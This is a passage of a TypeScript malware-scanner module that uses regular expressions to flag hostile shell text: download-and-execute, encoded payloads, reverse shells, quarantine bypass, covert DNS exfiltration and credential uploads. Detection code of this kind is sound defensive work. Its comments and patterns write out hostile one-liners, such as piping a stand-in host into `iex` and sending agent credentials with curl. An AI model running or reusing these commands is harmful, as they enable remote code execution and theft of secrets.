/**
 * Shell text (lifecycle scripts, .sh/.ps1/.bat files, code blocks in SKILL.md, strings a program passes to a
 * shell): download-and-execute, decode-and-execute, reverse shells, and the files a command runs.
 */
import { gunzipSync } from 'node:zlib';
import type { SignalSink } from '../signals.js';
import { MAX_DECODE_DEPTH, decodeBase64, decodeBase64Utf16, decodeEscapes, isMostlyPrintable } from './decode.js';
import { EXFIL_HOST, PASTE_HOST, scanContent } from './patterns.js';
import { classifyHost } from '../effects/classify.js';
import { compileOnFirstUse, containsWord, escapeRegExp, lowerCased } from './regex-tier.js';

const DOWNLOADER = /\b(curl|wget|fetch|aria2c|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|Start-BitsTransfer|bitsadmin|certutil(?:\.exe)?\s+-urlcache|DownloadString|DownloadFile|DownloadData|Net\.WebClient)\b/i;
const INTERPRETER = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:\/usr\/bin\/env\s+|\/bin\/|\/usr\/bin\/|\/usr\/local\/bin\/)?(?:ba|z|k|da|fi)?sh|python[23]?|perl|ruby|node|php|osascript|iex|Invoke-Expression|pwsh|powershell(?:\.exe)?|cmd(?:\.exe)?|source`;
// (`| python3 -m json.tool`: the module reads the pipe as its data; only `-m code`, the interactive console, runs it)
const PIPE_TO_INTERPRETER = new RegExp(String.raw`\|\s*(?:${INTERPRETER})\b(?!\s*-c\s+['"]?\w)(?!\s+-m\s+(?!code\b)[\w.]+)`, 'i');
const SUBSHELL_DOWNLOAD = new RegExp(String.raw`(?:${INTERPRETER})\s+(?:-\w+\s+)*(?:-c\s+)?["']?\$\(\s*(?:curl|wget)\b|(?:${INTERPRETER})\s+<\(\s*(?:curl|wget)\b|\b(?:iex|Invoke-Expression)\s*[(\s]+.*\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|Net\.WebClient)\b|\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|\n]*\|\s*(?:iex|Invoke-Expression)\b|\beval\s+["']?\$\(\s*(?:curl|wget)\b`, 'i');
const SAVE_THEN_RUN = /\b(curl|wget)\b[^\n]{0,200}?(?:\s-o\s*|\s-O\s+|--output[=\s]|--output-document[=\s]|>\s*)["']?([^\s"';&|]+)[^\n]{0,300}?(?:chmod\s+(?:\+x|[0-7]*[157][0-7]*)\b|&&\s*(?:\.\/|\/tmp\/|open\s|start\s|bash\s|sh\s)|;\s*(?:\.\/|\/tmp\/)|\bnohup\b)/i;
const BASE64_PIPE_EXEC = new RegExp(String.raw`\bbase64\s+(?:-d|-D|--decode|-di|-id)\b[^|\n]*\|\s*(?:${INTERPRETER})\b|\bopenssl\s+(?:enc\s+-)?base64\s+-d\b[^|\n]*\|\s*(?:${INTERPRETER})\b|FromBase64String[\s\S]{0,200}(?:iex|Invoke-Expression)|(?:iex|Invoke-Expression)[\s\S]{0,200}FromBase64String`, 'i');
const ECHO_BASE64 = /(?:echo|printf)\s+(?:-n\s+|-e\s+)*["']?([A-Za-z0-9+/]{16,}={0,2})["']?\s*\|\s*(?:base64|openssl)/gi;
const HEREDOC_BASE64 = /<<<\s*["']?([A-Za-z0-9+/]{16,}={0,2})["']?/g;
const PS_ENCODED = /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*?\s-(?:e|ec|enc|enco|encodedcommand)\s+["']?([A-Za-z0-9+/]{16,}={0,2})/gi;
const FROM_BASE64 = /FromBase64String\(\s*["']([A-Za-z0-9+/]{16,}={0,2})["']/gi;
const INLINE_CODE = /\b(node|nodejs|bun|deno)\s+(?:--\S+\s+)*(?:-e|--eval|-p|--print)\s+|\b(python[23]?|perl|ruby)\s+-[cE]\s+/i;
/** The syntax of a regular expression (`\s`, `\b`, `.*`, `(?:`, `[^`, `{1,3}`): text that describes commands to match. */
const REGEX_SYNTAX = /\\[sbdwSWDB]|\.[*+]|\(\?[:!=]|\[\^|\{\d+,\d*\}|\)\?/g;
const REVERSE_SHELL = /\/dev\/(tcp|udp)\/[^\s/]+\/\d+|\b(nc|ncat|netcat)\b[^\n|;]*\s-[a-z]*[ec]\s+\/?(?:bin\/)?(?:ba)?sh\b|\bmkfifo\b[^\n]*\b(nc|ncat|netcat|openssl\s+s_client)\b|\bsocat\b[^\n]*\bexec:|\b(bash|sh)\s+-i\s+[>&]|pty\.spawn\(\s*["']\/bin\/(ba)?sh|os\.dup2\(\s*\w+\.fileno\(\)\s*,\s*[012]\s*\)|\bTCPClient\([^)]*\)[\s\S]{0,200}\bGetStream\(\)|(?:^|\s)(?<fd>\d)<>\s*\/dev\/(?:tcp|udp)\/\S+[^\n]*?(?:<&\s*\k<fd>(?!\d)[^\n;]*\|\s*(?:\S*\/)?(?:ba|z|da|k)?sh\b|\b(?:ba|z|da|k)?sh\b[^\n;|]*<&\s*\k<fd>(?!\d))/i;
const QUARANTINE_BYPASS = /\bxattr\s+(?:-[a-z]+\s+)*(?:-d|-c|-r|-cr|-rc|-rd|-dr)\b[^\n]*|\bspctl\s+--master-disable\b|Set-MpPreference\s+-DisableRealtimeMonitoring|Add-MpPreference\s+-ExclusionPath/i;
const CHMOD_EXEC = /\bchmod\s+(?:-R\s+)?(?:[ugoa]*\+[rwx]*x|[0-7]*[157][0-7]{0,2})\s+\S+/i;
const RUNS_FILE = /(?:^|[;&|(]\s*|\b(?:exec|then|do)\s+)(?:node|nodejs|bun|sh|bash|zsh|python[23]?|perl|ruby|pwsh|powershell(?:\.exe)?(?:\s+-File)?)\s+(?:--?[\w-]+(?:=\S+)?\s+)*["']?((?:\.{0,2}\/)?[\w@.\-/]+\.(?:c?js|mjs|ts|cts|mts|sh|bash|py|pl|rb|ps1))["']?/gi;
/** The host's identity: its name, its users, `uname -a`/`-n` (not `uname -s`/`-m`: the OS and CPU a binary is picked for). */
const HOST_INFO = /(?:\bcat|@|<)\s*\/etc\/(?:passwd|hostname)\b|\$\(\s*(?:hostname|whoami|id|uname\s+(?:-\w*[an]|--all|--nodename))\b[^)]*\)|`\s*(?:hostname|whoami|id|uname\s+(?:-\w*[an]|--all|--nodename))\b[^`]*`|\$\{?(?:HOSTNAME|USER|USERNAME|LOGNAME)\}?|%(?:COMPUTERNAME|USERNAME)%|\$env:(?:COMPUTERNAME|USERNAME)/i;
const ENV_DUMP = /(?:^|[;&|(]\s*)(?:env|printenv|set)\s*(?:\||>)|\bGet-ChildItem\s+env:|\bgci\s+env:/i;
const BASE64_DECODE = /\bbase64\s+(?:-d|-D|--decode)\b|\bFromBase64String\b|\bb64decode\b|\bopenssl\s+(?:enc\s+-)?base64\s+-d\b/i;
/** Decoded text handed to something that runs it: `bash <(… | base64 -d)`, `eval "$(… | base64 -d)"`, `sh -c "$(…)"`. */
const DECODE_RUNNER = /(?:^|[\s;&|(])(?:(?:ba|z|da)?sh\s+(?:-c\s+)?["']?(?:<\(|\$\()|eval\s+["']?\$\(|source\s+<\(|\.\s+<\(|python[23]?\s+-c|perl\s+-e|iex\b|Invoke-Expression\b)/i;
const DNS_TOOL = /\b(?:nslookup|dig|host|Resolve-DnsName)\s+(?:[-+][\w=-]+\s+)*["']?[\w$({.-]*\$[({]?\w/i;
/** A download argument with no scheme: a raw IPv4 (optionally `:port`) or `host.tld:port`, followed by a path or the end of the argument. */
const SCHEMELESS_ADDRESS = /\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|DownloadFile|DownloadData|Start-BitsTransfer|aria2c)\b(?=[(\s])[^|\n;]*?(?:^|[\s"'(=])(?<!:\/\/)((?:\d{1,3}\.){3}\d{1,3}|[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,})(?::(\d{2,5}))?(?=[/"'\s)|;]|$)/gi;
/** A DNS lookup whose leftmost label is a variable under a fixed domain. */
const DNS_LABEL_QUERY = /\b(?:nslookup|dig|host|drill|Resolve-DnsName|getent\s+(?:hosts|ahosts))\s+(?:[-+@][\w=.:-]+\s+)*["']?(?:[\w-]*\$[({]?[\w:#%]+[)}]?[\w-]*\.)+(?:[\w-]+\.)*[a-z0-9-]+\.[a-z]{2,}\b/i;
/** `ping -p <pattern>` with a variable pattern: data in ICMP padding. */
const PING_PATTERN = /\bping\b[^\n|;]*\s-p\s*["']?\$[({]?\w/i;
/** Turning data into hex, base32/64 or fixed-size pieces. */
const CHUNK_ENCODER = /\bxxd\s+-p\b|\bxxd\s+-ps\b|\bbase32\b|\bbase64\b|\bbasenc\b|\bod\s+-[A-Za-z]*\s*[^\n|]*x1|\bhexdump\b|\bfold\s+-(?:b\s*)?w\s*\d|\bsplit\s+-b\b|\bcut\s+-c\b|\$\{\w+:\$?\w+:\d+\}|\bConvertTo-Hex\b|\[Convert\]::ToBase64String/i;
/** Asking the user for a password in a hand-made dialog: `display dialog … hidden answer`, zenity/kdialog password boxes, credential prompts read back as plain text, password checks against the directory. */
const PASSWORD_PROMPT = /\bdisplay\s+dialog\b[^\n]*\bhidden\s+answer\b|\bzenity\b[^\n|;]*\s--(?:password|entry\b[^\n|;]*--hide-text)|\bkdialog\b[^\n|;]*\s--password\b|\byad\b[^\n|;]*--field=[^\n|;]*:H\b|\b(?:Get-Credential|PromptForCredential)\b[^\n]*\bGetNetworkCredential\(\)\.Password\b|\bdscl\s+\S+\s+-authonly\b/i;
const URL_RE = /\b(?:https?|ftp):\/\/[^\s"'`<>)|;]+/gi;

export interface ShellAnalysis {
  /** Package-relative files this text runs (`node install.js`): judged as install-time code when the text is a lifecycle script. */
  runsFiles: string[];
}

/** Link shorteners: the real host of what gets run is hidden and can be swapped after review. */
const SHORTENER = /^(?:https?:\/\/)(?:bit\.ly|tinyurl\.com|t\.co|is\.gd|v\.gd|goo\.gl|ow\.ly|rebrand\.ly|cutt\.ly|shorturl\.at|rb\.gy|tiny\.cc|buff\.ly|t\.ly|s\.id|qrco\.de|bl\.ink|short\.io|shorturl\.me|tiny\.one|u\.to|clck\.ru|dub\.sh|lnkd\.in)\//i;
/** Text through a chain of decoders into an interpreter: `| base32 -d | sh`, `| base64 -d | gunzip | bash`, `| rev | sh`. */
const DECODER_PIPE_EXEC = new RegExp(String.raw`\|\s*(?:base(?:32|64)\s+(?:-d|-D|--decode)|basenc\s+[^|]*(?:-d|--decode)|gunzip|zcat|gzip\s+-d[c]*|bzip2\s+-d|bunzip2|xz\s+-d|unxz|xxd\s+-r[p]?|rev|openssl\s+(?:enc\s+)?[^|]*-d\b|tr\s+['"]?[A-Za-z-]+['"]?\s+['"]?[A-Za-z-]+)[^|\n]*\|\s*(?:[^|\n]*\|\s*)*(?:${INTERPRETER})\b`, 'i');

/** True when a download in this command fetches from somewhere no legitimate installer uses. */
function untrustedSource(command: string, decoded: boolean): boolean {
  if (decoded) return true;
  const urls = command.match(URL_RE) ?? [];
  for (const u of urls) {
    if (/^(https?|ftp):\/\/(\d{1,3}\.){3}\d{1,3}\b/i.test(u) && !/^(https?):\/\/(127\.|10\.|192\.168\.|0\.0\.0\.0)/i.test(u)) return true;
    if (/^http:\/\//i.test(u) && !/^http:\/\/(localhost|127\.0\.0\.1)\b/i.test(u)) return true;
    if (PASTE_HOST.test(u) || EXFIL_HOST.test(u) || SHORTENER.test(u)) return true;
  }
  // A schemeless address (`irm 198.51.100.23:8080/x | iex`, `curl 203.0.113.5/x|sh`, `wget evil.example:8443/p`) is
  // fetched over plain http by every downloader: a raw IP or a host on a non-standard port is no vendor's installer.
  for (const m of command.matchAll(SCHEMELESS_ADDRESS)) {
    const host = m[1];
    if (/^(?:\d{1,3}\.){3}\d{1,3}$/.test(host)) {
      if (!/^(?:127\.|10\.|192\.168\.|0\.0\.0\.0)/.test(host)) return true;
    } else if (m[2] && !/^(?:localhost)$/i.test(host) && !/^(?:80|443)$/.test(m[2])) return true;
  }
  // A download whose URL is assembled from variables or hidden entirely is not a vendor's documented installer.
  return urls.length === 0 && /\b(curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\b(\s+-{1,2}[\w-]+)*\s+["'(]?(\$\{?\w|%\w+%)/i.test(command);
}

function logicalLines(text: string): Array<{ text: string; offset: number }> {
  const out: Array<{ text: string; offset: number }> = [];
  let start = 0;
  let buf = '';
  let bufStart = 0;
  for (let i = text.indexOf('\n'); ; i = text.indexOf('\n', start)) {
    if (i === -1) i = text.length;
    const raw = text.slice(start, i);
    if (buf === '') bufStart = start;
    if (raw.includes('\\') && /\\\s*$/.test(raw)) buf += `${raw.replace(/\\\s*$/, '')} `;
    else {
      buf += raw;
      out.push({ text: buf, offset: bufStart });
      buf = '';
    }
    start = i + 1;
    if (i === text.length) break;
  }
  if (buf) out.push({ text: buf, offset: bufStart });
  return out;
}

/** The patterns every shell text past the prefilter runs, compiled to machine code on first use (see regex-tier.ts). */
const compileShellPatterns = compileOnFirstUse(() => [
  ASSIGNMENT, SECRET_ASSIGNMENT, DOWNLOADER, HOST_INFO, ENV_DUMP, BASE64_PIPE_EXEC, DECODER_PIPE_EXEC, BASE64_DECODE, DNS_TOOL, PASSWORD_PROMPT,
  DNS_LABEL_QUERY, PING_PATTERN, INLINE_CODE, REVERSE_SHELL, QUARANTINE_BYPASS, CHMOD_EXEC, RUNS_FILE, UPLOAD_COMMAND, DOWNLOAD_EXTRACT,
  AUTHORIZED_KEYS_NEEDLE, UNTRUSTED_INDEX, ECHO_PIPELINE, REV_ECHO, XXD_HEX, PRINTF_ESCAPES,
]);

/**
 * Which per-line patterns can match anywhere in a text: each flag is a word that every branch of its pattern names.
 * Searched for in the lower-cased text (which holds every word the case-insensitive pattern would find, and maybe
 * more), a missing word proves the pattern matches no line of the text (a logical line joins continued lines with a
 * space, so it holds no word the text lacks), and the pattern is not run line by line.
 */
interface Gates {
  download: boolean;
  envDump: boolean;
  base64: boolean;
  base64Decode: boolean;
  passwordPrompt: boolean;
  inlineCode: boolean;
  quarantine: boolean;
  chmod: boolean;
  runsFile: boolean;
  upload: boolean;
  echo: boolean;
  fromBase64: boolean;
  powershell: boolean;
}

function gatesOf(text: string): Gates {
  const lower = lowerCased(text);
  const has = (words: readonly string[]): boolean => {
    for (const w of words) if (containsWord(lower, w)) return true;
    return false;
  };
  const base64 = containsWord(lower, 'base64');
  return {
    // DOWNLOADER, and the patterns tested only after it.
    download: has(['curl', 'wget', 'fetch', 'aria2c', 'iwr', 'irm', 'invoke-', 'bits', 'certutil', 'download', 'net.webclient']),
    envDump: has(['env', 'set']),
    base64, // BASE64_PIPE_EXEC (FromBase64String holds it too)
    base64Decode: base64 || containsWord(lower, 'b64decode'),
    passwordPrompt: has(['dialog', 'zenity', 'yad', 'credential', 'dscl']),
    inlineCode: has(['node', 'bun', 'deno', 'python', 'perl', 'ruby']),
    quarantine: has(['xattr', 'spctl', 'mppreference']),
    chmod: containsWord(lower, 'chmod'),
    runsFile: has(['node', 'bun', 'sh', 'python', 'perl', 'ruby']), // sh: bash, zsh, pwsh, powershell
    upload: has(['gh', 'curl', 'wget', 'nc', 'http', 'invoke-', 'iwr', 'irm', 'scp', 'rsync', 'aws', 'gsutil', 'rclone', 'pastebinit', 'git']),
    echo: has(['echo', 'printf']),
    fromBase64: containsWord(lower, 'frombase64string'),
    powershell: has(['powershell', 'pwsh']),
  };
}

/** A sentence that forbids what follows it ("Never add", "do not run", "don't use"), up to the command. */
const NEVER_BEFORE = /\b(?:never|do\s+not|don'?t|must\s+not|should\s+not|avoid)\b[^.!?;:\n]*$/i;

export function analyzeShell(text: string, sink: SignalSink, lineAt: (offset: number) => number, withContent = true): ShellAnalysis {
  const runsFiles: string[] = [];
  if (withContent) scanContent(text, sink, lineAt);
  // Cheap prefilter: most text has none of the tokens any shell signal needs.
  if (!/curl|wget|fetch|iwr|irm|invoke|download|bits|certutil|base64|powershell|pwsh|node|bun|deno|python|perl|ruby|dev\/|nc|socat|mkfifo|xattr|spctl|mppreference|chmod|sh\b|bash|iex|hostname|whoami|uname|\$|%|env|gci|rev\b|xxd|printf|""|''|authorized_keys|index|registry/i.test(text)) return { runsFiles };
  compileShellPatterns(text);
  const vars = new Map<string, string>();
  if (text.length < 200000) for (const a of text.matchAll(ASSIGNMENT)) if (!vars.has(a[1])) vars.set(a[1], a[2] ?? a[3] ?? a[4] ?? '');
  // A word grown piece by piece (`d=/dev/t; d+=cp`, `b="ba"; b+="sh"`): what it holds once the pieces are in.
  if (text.length < 200000 && text.includes('+=')) for (const a of text.matchAll(APPEND)) vars.set(a[1], (vars.get(a[1]) ?? '') + (a[2] ?? a[3] ?? a[4] ?? ''));
  // Variables whose value is read out of an agent or key store: `tok=$(jq -r .token ~/.openclaw/openclaw.json)`.
  const secretVars = new Set<string>();
  if (text.length < 200000) for (const a of text.matchAll(SECRET_ASSIGNMENT)) if (AGENT_SECRET_FILE.test(a[2])) secretVars.add(a[1]);
  const gate = gatesOf(text);
  for (const { text: cmd, offset } of logicalLines(text)) {
    if (cmd.length > 20000) continue;
    const line = lineAt(offset);
    const decoded = sink.depth > 0;
    const dollar = cmd.includes('$');
    const downloads = gate.download && DOWNLOADER.test(cmd);
    if (downloads) {
      sink.add('shell.download', line, cmd);
      // The pipe must belong to the download's own pipeline (not a later command, not a word list).
      const from = cmd.slice(cmd.search(DOWNLOADER));
      const pipeline = from.slice(0, 400).split(/;|&&|\|\||\n/)[0];
      const stages = pipeline.split('|');
      // A real download command has a handful of arguments before its pipe; a keyword list does not.
      const pipes = stages[0].trim().split(/\s+/).length <= 12 && PIPE_TO_INTERPRETER.test(pipeline);
      if (pipes || SUBSHELL_DOWNLOAD.test(cmd) || SAVE_THEN_RUN.test(cmd)) {
        sink.add('shell.download-exec', line, cmd);
        // `URL=https://vendor/...` earlier and `curl $URL | sh` here: judge the URL the variable holds.
        if (untrustedSource(resolveVars(cmd, vars), decoded)) sink.add('shell.download-exec-untrusted', line, cmd);
      }
    }
    if ((dollar || cmd.includes('`') || cmd.includes('%') || cmd.includes('/')) && HOST_INFO.test(cmd)) sink.add('host.info', line, cmd);
    if (gate.envDump && ENV_DUMP.test(cmd)) sink.add('env.bulk', line, cmd);
    // A decoder fed a placeholder (`echo ... | base64 -d | bash`, `echo <payload> | …`) is the shape of an attack written
    // out in a description; a real one decodes data.
    if (((gate.base64 && BASE64_PIPE_EXEC.test(cmd)) || (cmd.includes('|') && DECODER_PIPE_EXEC.test(cmd)) || (gate.base64Decode && BASE64_DECODE.test(cmd) && DECODE_RUNNER.test(cmd))) && (decoded || !PAYLOAD_PLACEHOLDER.test(cmd))) sink.add('shell.base64-exec', line, cmd);
    if (dollar && DNS_TOOL.test(cmd)) sink.add('net.dns', line, cmd);
    // A home-made password dialog (what a phishing script shows instead of the OS's own authentication prompt).
    if (gate.passwordPrompt && PASSWORD_PROMPT.test(cmd)) sink.add('shell.password-prompt', line, cmd);
    // Data cut into labels of names under a fixed zone (`dig "$chunk.$i.q.zone.tld"`) or into ICMP padding
    // (`ping -p $hex`), when the script encodes it into hex/base32/chunks: a covert channel past HTTP egress.
    if (dollar && (DNS_LABEL_QUERY.test(cmd) || PING_PATTERN.test(cmd)) && CHUNK_ENCODER.test(text.length < 200000 ? text : cmd)) sink.add('net.covert-exfil', line, cmd);
    if (gate.inlineCode && INLINE_CODE.test(cmd)) {
      sink.add('shell.inline-code', line, cmd);
      // `ruby -e` / `python -c` / `perl -e` / `node -e` that fetches and then runs: a dropper in one line.
      if (INLINE_FETCH.test(cmd) && INLINE_RUN.test(cmd)) {
        sink.add('shell.download-exec', line, cmd);
        if (untrustedSource(resolveVars(cmd, vars), decoded)) sink.add('shell.download-exec-untrusted', line, cmd);
      }
    }
    // A one-liner whose address is a placeholder (ATTACKER_IP, <lhost>) is a template in a reference, not a connection.
    // Also with the script's own variables in place: a shell or device name assembled from pieces runs all the same.
    if (REVERSE_SHELL.test(cmd) || (cmd.includes('$') && REVERSE_SHELL.test(resolveVars(cmd, vars)))) {
      const r = resolveVars(cmd, vars);
      // (nor a detector's regular expression for one, `'/dev/tcp/|\bnc(at)?\b.*\s-e\s'`: that matches a shell, it runs none)
      if (decoded || !((ADDRESS_PLACEHOLDER.test(r) && !/\b(?:\d{1,3}\.){3}\d{1,3}\b/.test(r)) || (cmd.match(REGEX_SYNTAX) ?? []).length >= 3)) {
        sink.add('shell.reverse-shell', line, cmd);
        // (to a private address only, a lab's or a CTF's 10.x / 192.168.x: nobody outside that network is reached)
        const ips = [...r.matchAll(/\b(\d{1,3})\.(\d{1,3})\.\d{1,3}\.\d{1,3}\b/g)];
        if (ips.length && ips.every(([, a, b]) => a === '10' || (a === '192' && b === '168') || (a === '172' && Number(b) >= 16 && Number(b) <= 31))) sink.add('shell.private-target', line, cmd);
      }
    }
    const qb = gate.quarantine ? QUARANTINE_BYPASS.exec(cmd) : null;
    // (not in a sentence telling the reader never to: "never run `xattr -d com.apple.quarantine` on installed apps")
    if (qb && (!/^xattr/i.test(qb[0]) || /quarantine|-c|-cr|-rc|-r\s/i.test(qb[0])) && !NEVER_BEFORE.test(cmd.slice(Math.max(0, qb.index - 120), qb.index))) sink.add('shell.quarantine-bypass', line, cmd);
    if (gate.chmod && CHMOD_EXEC.test(cmd)) sink.add('shell.chmod-exec', line, cmd);
    RUNS_FILE.lastIndex = 0;
    let m: RegExpExecArray | null;
    if (gate.runsFile && cmd.includes('.')) while ((m = RUNS_FILE.exec(cmd))) runsFiles.push(m[1]);
    // `f=~/.openclaw/openclaw.json` earlier and `curl --data-binary @"$f"` here: judge the path the variable holds.
    const rcmd = vars.size > 0 && /\$/.test(cmd) ? resolveVars(cmd, vars) : cmd;
    // Values of variables can be joined (`+=`) into words the text does not hold: a resolved line is always tested.
    const up = gate.upload || rcmd !== cmd ? UPLOAD_COMMAND.exec(rcmd) : null;
    // The credential must be an argument of the upload command itself, not a word later in the sentence.
    if (up && SECRET_FILE.test(rcmd.slice(up.index).split(/[;&|`]|\.\s|\s#/)[0].replace(EXCLUDED, ' '))) sink.add('shell.secret-upload', line, cmd);
    // `tok=$(jq -r .token ~/.openclaw/openclaw.json)` earlier, `curl "https://x/?t=$tok"` here: an agent secret sent off the machine.
    else if (secretVars.size > 0 && NET_SEND.test(cmd) && !/\b(?:localhost|127\.0\.0\.1|\[::1\])\b/.test(cmd) && sendsSecretVar(cmd, secretVars)) sink.add('shell.secret-upload', line, cmd);
    // `tar czf - ~/.openclaw/credentials | curl -F f=@- …`: secrets read by one stage, sent by the next from stdin.
    else if (up && up.index > 0 && STDIN_UPLOAD.test(rcmd.slice(up.index).split(/[;&`]/)[0])) {
      const pipeline = rcmd.slice(0, up.index).split(/;|&&|\|\|/).pop() ?? '';
      if (/\|\s*$/.test(pipeline) && SECRET_FILE.test(pipeline.replace(EXCLUDED, ' '))) sink.add('shell.secret-upload', line, cmd);
    }
    if (downloads && DOWNLOAD_EXTRACT.test(cmd)) extractThenRun(cmd, sink, line, resolveVars(cmd, vars));
    if (AUTHORIZED_KEYS_NEEDLE.test(cmd) && AUTHORIZED_KEYS_WRITE.test(cmd)) sink.add('shell.authorized-keys-write', line, cmd);
    if (cmd.includes('://') && UNTRUSTED_INDEX.test(cmd)) sink.add('shell.untrusted-index', line, cmd);
    decodeEmbedded(cmd, sink, line, gate);
  }
  downloadThenRun(text, sink, lineAt);
  deobfuscate(text, sink, lineAt);
  return { runsFiles };
}

/** Where a download command writes its file: `curl -o F`, `wget -O F`, `iwr -OutFile F`, `DownloadFile(u, F)`, `certutil … u F`. */
const SAVED_AS = /\b(?:curl|wget)\b[^\n]*?(?:\s-o\s*|\s-O\s+|--output[=\s]|--output-document[=\s])["']?([^\s"';&|)]+)|\b(?:Invoke-WebRequest|iwr|Invoke-RestMethod|irm|Start-BitsTransfer)\b[^\n]*?-(?:OutFile|Destination)\s+["']?([^\s"';|)]+)|\bDownloadFile\(\s*[^,\n]+,\s*["']?([^\s"')]+)|\bcertutil(?:\.exe)?\s+-urlcache\s+(?:-\w+\s+)*\S+\s+["']?([^\s"']+)|\bbitsadmin\b[^\n]*\/transfer\s+\S+\s+(?:\/\w+\s+)*\S+\s+["']?([^\s"']+)/gi;

/**
 * Download on one line, run on a later one: the saved file is then started, made executable or opened.
 * Multi-line droppers (PowerShell `-OutFile $dst` … `Start-Process $dst`, `curl -o f` … `chmod +x f; ./f`).
 */
function downloadThenRun(text: string, sink: SignalSink, lineAt: (offset: number) => number): void {
  if (text.length > 200000 || !/curl|wget|iwr|irm|invoke-|downloadfile|certutil|bitsadmin|bitstransfer/i.test(text)) return;
  let vars: Map<string, string> | undefined;
  for (const m of text.matchAll(SAVED_AS)) {
    const file = (m[1] ?? m[2] ?? m[3] ?? m[4] ?? m[5] ?? '').replace(/["'`]+$/, '');
    if (file.length < 2 || file === '-' || /^\/dev\/null$/i.test(file)) continue;
    const start = m.index ?? 0;
    let lineEnd = text.indexOf('\n', start);
    if (lineEnd === -1) lineEnd = text.length;
    // The rest of this line after the download (`&& start x.exe`) and the lines after it.
    const rest = text.slice(start + m[0].length, lineEnd + 3000);
    const f = escapeRegExp(file);
    const base = escapeRegExp(file.split(/[\\/]/).pop() ?? file);
    const runs = new RegExp(String.raw`(?:\bStart-Process\b(?:\s+-FilePath)?|\bInvoke-Item\b|(?:^|[;&|]\s*|\n\s*)&\s*|\bstart(?:\s+"")?\s+|\bcmd(?:\.exe)?\s+\/c\s+|\bchmod\s+(?:\+x|[0-7]*[157][0-7]{0,2})\s+|\bopen\s+|\bnohup\s+|\bexec\s+|(?:^|[;&|]\s*|\n\s*)(?:sudo\s+)?(?:ba|z)?sh\s+|\bhdiutil\s+attach\s+|\bmsiexec\b[^\n]*?\/i\s+)\s*["']?(?:${f}|[^\s"']*${base})(?=["'\s;&|)]|$)|(?:^|\n)\s*["']?\.?\/?(?:${f})["']?(?=\s|$)`, 'i');
    const r = runs.exec(rest);
    if (!r) continue;
    const cmd = `${text.slice(start, lineEnd).trim()} … ${r[0].trim()}`;
    const line = lineAt(start);
    sink.add('shell.download-exec', line, cmd);
    // (a URL held in a variable the script sets to a literal, `$url = 'https://dot.net/v1/dotnet-install.ps1'`, is
    // that URL: not one hidden behind a variable)
    // (only where that URL is a vendor's: a variable naming anyone else's host still hides it from a reader)
    vars ??= literalAssignments(text);
    const raw = text.slice(start, lineEnd);
    const resolved = resolvePsVars(resolveVars(raw, vars), vars);
    const urls = resolved === raw ? [] : (resolved.match(URL_RE) ?? []);
    const vendorOnly = urls.length > 0 && urls.every((u) => /^https:/i.test(u) && classifyHost(u).hostClass === 'vendor');
    if (untrustedSource(vendorOnly ? resolved : raw, sink.depth > 0)) sink.add('shell.download-exec-untrusted', line, cmd);
  }
}

/** Variables a shell or PowerShell script sets once to a quoted literal (`url="https://…"`, `$url = 'https://…'`). */
function literalAssignments(text: string): Map<string, string> {
  const seen = new Map<string, string | null>();
  for (const m of text.matchAll(/^[ \t]*(?:(?:export|local|readonly)\s+)?\$?([A-Za-z_]\w*)\s*=\s*(?:"([^"$`\n]*)"|'([^'\n]*)')[ \t]*;?[ \t]*$/gm)) {
    const name = m[1]!;
    seen.set(name, seen.has(name) ? null : (m[2] ?? m[3])!);
  }
  const out = new Map<string, string>();
  for (const [k, v] of seen) if (v !== null) out.set(k, v);
  return out;
}
/** PowerShell's `$name` (any case) replaced by its literal. */
function resolvePsVars(cmd: string, vars: Map<string, string>): string {
  if (vars.size === 0) return cmd;
  const lower = new Map([...vars].map(([k, v]) => [k.toLowerCase(), v]));
  return cmd.replace(/\$([A-Za-z_]\w*)/g, (whole, n: string) => lower.get(n.toLowerCase()) ?? whole);
}

const ADDRESS_PLACEHOLDER = /\b(?:ATTACKER|LISTENER|YOUR|MY|LHOST|RHOST|TARGET|REMOTE|KALI|ATTACK)[_-]?(?:IP|HOST|ADDR|ADDRESS|SERVER|BOX)?\b|\/(?:HOST|IP|ADDR|ADDRESS|SERVER|DOMAIN)\/(?:PORT|\d+)\b|<\s*[\w -]*(?:ip|host|addr|address|server)[\w -]*\s*>|\{\s*(?:ip|host|lhost|addr)\s*\}|\bx\.x\.x\.x\b/;

/**
 * Data a decoder cannot have been given: a placeholder (`echo ... |`, `echo <payload> |`, `echo [base64] |`) or a blob
 * cut short with an ellipsis (`echo 'L2Jpbi9i...' |`). The pipeline is an attack written out in a description or an
 * excerpt of one; no working dropper can elide its own payload.
 */
export const PAYLOAD_PLACEHOLDER = /\b(?:echo|printf)\s+(?:-[a-z]+\s+)?(?:["'`][^"'`|\n]*(?:\.{3}|…)["'`]|["'`]?(?:\.{3}|…|<[^<>|\n]{1,40}>|\[[^[\]|\n]{1,40}\])["'`]?)\s*\|/i;

const INLINE_FETCH = /Net::HTTP|open-uri|URI\.open|\burlopen\b|\burllib\b|\brequests\.get\b|LWP::|HTTP::Tiny|\bhttps?\.get\b|\bfetch\(|\bInvoke-WebRequest\b|\bcurl\b|\bwget\b/i;
const INLINE_RUN = /\b(?:system|exec|execSync|spawn|popen|Popen|subprocess|eval|chmod|IO\.popen|Kernel\.exec|os\.system|child_process)\b|%x[({]|`[^`]*\//i;

/** An upload that sends what it reads on stdin. */
const STDIN_UPLOAD = /@-|--upload-file\s+-(?:\s|$)|\s-T\s+-(?:\s|$)|--data-binary\s+@-|^(?:nc|ncat)\b/i;
/** A download piped straight into an archive extractor. */
const DOWNLOAD_EXTRACT = /\b(?:curl|wget)\b[^\n|;]*\|\s*(?:sudo\s+)?(?:tar|bsdtar|unzip|funzip|7z)\b/i;

/** `curl … | tar xz -C dir && dir/tool`: download, extract, run what came out. */
function extractThenRun(cmd: string, sink: SignalSink, line: number, resolved: string): void {
  const m = /\|\s*(?:sudo\s+)?(?:tar|bsdtar|unzip|funzip|7z)\b([^|;&\n]*)/i.exec(cmd);
  if (!m) return;
